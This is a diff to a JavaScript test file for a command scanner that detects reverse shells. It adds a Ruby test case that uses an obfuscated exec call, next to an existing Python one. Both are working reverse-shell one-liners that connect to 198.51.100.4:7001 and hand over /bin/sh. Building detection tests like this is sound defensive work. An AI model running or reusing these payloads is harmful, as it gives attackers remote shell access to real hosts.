@@ -308,6 +308,8 @@ test("interpreter code glued to its flag (-e'…', -c'…') is analysed like a s
   assert.ok(ids(run(ruby)).includes("cmd.reverse-shell.interpreter-socket"), ids(run(ruby)).join(","));
   const py = `python3 -c'import socket,os;s=socket.socket();s.connect(("198.51.100.4",7001));os.dup2(s.fileno(),0);os.execl("/bin/sh","sh")'`;
   assert.ok(ids(run(py)).includes("cmd.reverse-shell.interpreter-socket"), ids(run(py)).join(","));
+  const fmt = `ruby -rsocket -e 'k=TCPSocket.open("198.51.100.4",7001).to_i;Kernel.send(:exec, format("/bin/sh -i <&%d >&%d 2>&%d",k,k,k))'`;
+  assert.ok(ids(run(fmt)).includes("cmd.reverse-shell.interpreter-socket"), ids(run(fmt)).join(","));
   for (const c of [`perl -ne'print if /x/' notes.txt`, `python3 -c'print(40 + 2)'`, `ruby -rjson -e'puts JSON.generate([1])'`]) {
     assert.deepEqual(ids(run(c)).filter((r) => r.startsWith("cmd.reverse-shell")), [], c);
   }
